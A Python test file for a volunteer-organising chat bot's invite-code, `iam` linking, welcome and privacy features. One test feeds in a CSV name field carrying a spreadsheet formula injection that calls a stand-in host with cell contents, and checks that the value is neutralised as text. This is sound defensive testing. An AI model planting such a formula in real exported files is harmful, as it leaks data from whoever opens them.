"""From a signature to a member (spec §13): invite codes, `iam`, the welcome, and privacy."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from tests.areas.signatures.test_import import CSV, count, upload
from tests.console_bot import ConsoleBot, joined, make_config, to


async def invite_codes(bot: ConsoleBot) -> dict[str, str]:
    bot.dm()
    await bot.say("you", "signatures invite")
    rows = csv.DictReader(io.StringIO(bot.console.files["invites.csv"].decode("utf-8-sig")))
    return {row["email"]: row["invite_code"] for row in rows}


async def test_invite_sends_a_csv_of_waiting_signatories_with_codes_and_the_join_link(
    tmp_path: Path,
) -> None:
    config = make_config(signatures={"join_url": "https://discord.gg/example"})
    bot = await ConsoleBot.start(tmp_path / "bot.sqlite3", config)
    try:
        await upload(bot, tmp_path, CSV.encode())
        reply = joined(to("you", await bot.say("you", "signatures invite")))
        assert "Here are 3 personal invite codes as CSV" in reply and "(attached: invites.csv" in reply
        rows = list(csv.DictReader(io.StringIO(bot.console.files["invites.csv"].decode("utf-8-sig"))))
        assert [row["name"] for row in rows] == ["Dana Reyes", "Eli Okafor", "Kim, Pat"]
        assert all(row["join_link"] == "https://discord.gg/example" for row in rows)
        assert rows[0]["first_message"] == f"!iam {rows[0]['invite_code']}"
        again = joined(await bot.say("you", "signatures invite"))
        assert "Everyone waiting already has an invite code." in again
    finally:
        await bot.close()


async def test_invite_counts_in_words_one_code_and_one_left(bot: ConsoleBot, tmp_path: Path) -> None:
    await upload(bot, tmp_path, CSV.encode())
    bot.dm()
    first = joined(await bot.say("you", "signatures invite 2"))
    assert "Here are 2 personal invite codes as CSV" in first
    assert "1 more is waiting without a code. Next: `signatures invite` for the next ones." in first
    last = joined(await bot.say("you", "signatures invite"))
    assert "Here is 1 personal invite code as CSV" in last and "Next: send them" in last


async def test_invite_again_replaces_lost_codes_and_the_old_ones_stop_working(bot: ConsoleBot, tmp_path: Path) -> None:
    """Codes are kept only as hashes: a lead who lost the mail-merge file gets new ones."""
    await upload(bot, tmp_path, CSV.encode())
    bot.dm()
    assert "Nobody waiting has an invite code yet." in joined(await bot.say("you", "signatures invite again"))
    first = await invite_codes(bot)
    lost = joined(await bot.say("you", "signatures invite"))
    assert "Lost them? `signatures invite again` makes new ones (the old ones stop working)." in lost
    partly = joined(await bot.say("you", "signatures invite 2 again"))
    assert "These replace the codes they were given before, which no longer work." in partly
    assert "1 more was given a code before. Next: `signatures invite again` for the next ones." in partly
    rows = list(csv.DictReader(io.StringIO(bot.console.files["invites.csv"].decode("utf-8-sig"))))
    replaced = {row["email"]: row["invite_code"] for row in rows}
    email, new = next(iter(replaced.items()))
    assert new != first[email]
    assert "I couldn't match that" in joined(await bot.say("dana", f"!iam {first[email]}"))
    assert "you're linked to your signature" in joined(await bot.say("dana", f"!iam {new}"))


async def test_invite_with_nobody_to_invite_says_why(bot: ConsoleBot, tmp_path: Path) -> None:
    """With no list imported, it said "Everyone waiting already has an invite code"."""
    bot.dm()
    assert "No signatories yet. Next: `signatures import`" in joined(await bot.say("you", "signatures invite"))
    await upload(bot, tmp_path, b"name,email\nAlex Doe,alex@example.org\n")
    bot.dm()
    await bot.say("alex", "!iam alex@example.org")
    assert "Everyone who signed has joined" in joined(await bot.say("you", "signatures invite"))


async def test_invite_csv_keeps_a_name_that_looks_like_a_formula_as_text(bot: ConsoleBot, tmp_path: Path) -> None:
    # A signature is typed by anyone; the mail merge opens this file in a spreadsheet.
    sheet = 'name,email\n"=HYPERLINK(""http://x.example/?""&A1,""hi"")",a@example.org\n+Sam,b@example.org\n'
    await upload(bot, tmp_path, sheet.encode())
    rows = list(csv.DictReader(io.StringIO((await invite_codes_file(bot)).decode("utf-8-sig"))))
    assert sorted(row["name"] for row in rows) == ["'+Sam", '\'=HYPERLINK("http://x.example/?"&A1,"hi")']
    assert all(row["first_message"].startswith("!iam ") for row in rows)


async def invite_codes_file(bot: ConsoleBot) -> bytes:
    bot.dm()
    await bot.say("you", "signatures invite")
    return bot.console.files["invites.csv"]


async def test_iam_with_a_code_links_once_and_fills_only_empty_profile_fields(bot: ConsoleBot, tmp_path: Path) -> None:
    await upload(bot, tmp_path, CSV.encode())
    code = (await invite_codes(bot))["dana@example.org"]
    await bot.say("dana", 'profile region:"Lake Erie"')
    reply = joined(to("dana", await bot.say("dana", f"iam {code.lower()}")))
    assert "Thank you for signing, Dana Reyes: you're linked to your signature." in reply
    assert "I filled in your timezone, library, role and skills from it" in reply
    assert "Next: `volunteer research` to sign up with the skills you signed with." in reply
    profile = joined(await bot.say("dana", "profile"))
    assert "region: Lake Erie" in profile and "library: public" in profile and "research, writing" in profile
    assert "timezone: America/New_York" in profile  # Ohio's, from the signature
    listing = await count(bot)
    assert "Dana Reyes <dana@example.org> — Springfield Public Library, Ohio, public · joined" in listing
    assert "1 of 3 has joined the chat." in listing
    # The code worked once: someone else trying it learns nothing.
    other = joined(to("mallory", await bot.say("mallory", f"iam {code}")))
    assert "I couldn't match that to a signature you can link." in other and "Dana" not in other


async def test_iam_sets_the_timezone_of_a_one_zone_state_and_moves_check_ins_with_it(
    bot: ConsoleBot, tmp_path: Path
) -> None:
    data = CSV + "Tex Moss,tex@example.org,Austin Library,Public,Texas,,,\nZed Ames,zed@example.org,X,Public,OH,,,\n"
    await upload(bot, tmp_path, data.encode())
    await bot.say("eli", "volunteer research")
    checkin = joined(await bot.say("eli", "checkin on every:monday at:10:00"))
    assert "every Monday at 10:00 (America/Chicago)" in checkin  # no zone yet: the organisation's
    reply = joined(to("eli", await bot.say("eli", "iam eli@example.org")))
    assert "I filled in your region, timezone, library and role from it" in reply
    assert "Next check-in: Mon 30 Nov 10:00. Schedule: every Monday at 10:00." in joined(await bot.say("eli", "mine"))
    assert "timezone: America/Detroit" in joined(await bot.say("eli", "profile"))
    # Texas spans two zones: none is guessed; a zone someone set stays theirs.
    assert "timezone" not in joined(to("tex", await bot.say("tex", "iam tex@example.org")))
    assert "timezone: not set" in joined(await bot.say("tex", "profile"))
    await bot.say("zed", "profile tz:Europe/London")
    assert "timezone" not in joined(to("zed", await bot.say("zed", "iam zed@example.org")))
    assert "timezone: Europe/London" in joined(await bot.say("zed", "profile"))


async def test_iam_filling_the_organisations_own_zone_leaves_a_snoozed_check_in_where_it_was(
    bot: ConsoleBot, tmp_path: Path
) -> None:
    await upload(bot, tmp_path, (CSV + "Ida Moss,ida@example.org,Ames Public,Public,Iowa,,,\n").encode())
    await bot.say("ida", "volunteer research")
    await bot.say("ida", "checkin every:day at:11:00")
    await bot.say("ida", "snooze checkin 2d")
    assert "timezone" in joined(to("ida", await bot.say("ida", "iam ida@example.org")))
    assert "Next check-in: Wed 25 Nov 11:00" in joined(await bot.say("ida", "mine"))


async def test_iam_by_email_and_someone_elses_email_gets_the_same_answer_as_no_match(
    bot: ConsoleBot, tmp_path: Path
) -> None:
    await upload(bot, tmp_path, CSV.encode())
    bot.dm()
    assert "you're linked" in joined(await bot.say("eli", "iam ELI@example.org"))
    taken = joined(await bot.say("mallory", "iam eli@example.org"))
    unknown = joined(await bot.say("mallory", "iam nobody@example.org"))
    assert taken == unknown and "Eli" not in taken
    assert "already linked to the signature of Eli Okafor" in joined(await bot.say("eli", "iam pat@example.org"))


async def test_iam_guessing_is_throttled_after_five_wrong_tries(bot: ConsoleBot, tmp_path: Path) -> None:
    await upload(bot, tmp_path, CSV.encode())
    bot.dm()
    for guess in range(5):
        assert "couldn't match" in joined(await bot.say("mallory", f"iam GUESS{guess:03d}"))
    assert "Too many tries" in joined(await bot.say("mallory", "iam dana@example.org"))
    await bot.advance("11m")
    assert "you're linked" in joined(await bot.say("mallory", "iam dana@example.org"))


async def test_iam_is_answered_privately_even_in_a_channel(bot: ConsoleBot, tmp_path: Path) -> None:
    await upload(bot, tmp_path, CSV.encode())
    bot.public()
    lines = await bot.say("dana", "!iam dana@example.org")
    assert "Dana Reyes" in joined(to("dana", lines))
    assert "Dana Reyes" not in joined([line for line in lines if line.startswith("[#")])


async def test_forget_me_removes_the_signature_and_a_reimport_does_not_bring_it_back(
    bot: ConsoleBot, tmp_path: Path
) -> None:
    await upload(bot, tmp_path, CSV.encode())
    bot.dm()
    await bot.say("dana", "iam dana@example.org")
    assert "your signature on the leads' list" in joined(await bot.say("dana", "forget me"))
    await bot.say("dana", "forget me confirm")
    assert "Dana" not in await count(bot)
    again = await upload(bot, tmp_path, CSV.encode())
    assert "Imported: 0 new, 0 updated, 2 unchanged, 2 skipped." in again
    assert "removed at their request" in again
    # A list without emails, as a second export might be, names her too: she stays off it.
    by_name = await upload(bot, tmp_path, b"Name,State\nDana  Reyes,Ohio\nNew Person,Ohio\n", name="names.csv")
    assert "Imported: 1 new" in by_name and "Line 2 skipped: removed at their request" in by_name, by_name
    assert "Dana" not in await count(bot)


async def test_export_me_includes_the_signature(bot: ConsoleBot, tmp_path: Path) -> None:
    await upload(bot, tmp_path, CSV.encode())
    bot.dm()
    await bot.say("pat", "iam pat@example.org")
    await bot.say("pat", "export me")
    exported = json.loads(bot.console.files["volunteer-bot-export.json"])
    assert exported["signature"]["notes"] == "Prefers email, not phone"


async def test_coverage_and_the_digest_count_signed_vs_joined(bot: ConsoleBot, tmp_path: Path) -> None:
    await upload(bot, tmp_path, CSV.encode())
    bot.dm()
    await bot.say("dana", "iam dana@example.org")
    await bot.say("dana", "volunteer research")
    expected = "Signatories: 1 of 3 has joined (1 this week)"
    assert expected in joined(await bot.say("you", "coverage"))
    assert expected in joined(await bot.say("you", "digest"))


# --- the welcome ---------------------------------------------------------------------------------


async def test_someone_who_joins_is_welcomed_once_privately(bot: ConsoleBot) -> None:
    lines = await bot.feed("::join dana")
    welcome = joined(to("dana", lines))
    assert "Welcome to Library Workers!" in welcome
    for step in ("`volunteer <skill>`", "`profile tz:<zone>", "`iam <email>`", "`pause`"):
        assert step in welcome
    assert not to("dana", await bot.feed("::join dana"))  # a welcome twice: never
    assert not to("dana", await bot.advance("3d"))


async def test_a_first_message_is_not_a_join_and_a_signed_up_member_is_not_welcomed(bot: ConsoleBot) -> None:
    lines = await bot.say("erin", "!volunteer research")
    assert "Welcome to Library Workers!" not in joined(lines)
    assert not to("erin", await bot.feed("::join erin"))


async def test_a_welcome_at_night_waits_for_the_morning_in_the_organisations_zone(bot: ConsoleBot) -> None:
    await bot.feed("::at 2026-11-24T05:00Z")  # 23:00 in Chicago
    assert not to("dana", await bot.feed("::join dana"))
    assert not to("dana", await bot.advance("9h"))  # 08:00 Chicago
    assert "Welcome to" in joined(to("dana", await bot.advance("1h")))


async def test_a_waiting_welcome_is_dropped_once_they_sign_up(bot: ConsoleBot) -> None:
    await bot.feed("::at 2026-11-24T05:00Z")
    await bot.feed("::join dana")
    await bot.say("dana", "!volunteer research")
    assert "Welcome to" not in joined(to("dana", await bot.advance("12h")))


async def test_the_welcome_text_is_configurable_and_can_be_switched_off(tmp_path: Path) -> None:
    custom = await ConsoleBot.start(tmp_path / "a.sqlite3", make_config(welcome={"text": "Hi! Start with `help`."}))
    off = await ConsoleBot.start(tmp_path / "b.sqlite3", make_config(welcome={"enabled": False}))
    try:
        assert joined(to("dana", await custom.feed("::join dana"))) == "Hi! Start with `help`."
        assert not to("dana", await off.feed("::join dana"))
    finally:
        await custom.close()
        await off.close()


async def test_join_needs_a_name(bot: ConsoleBot) -> None:
    assert "::join takes one name" in joined(await bot.feed("::join"))
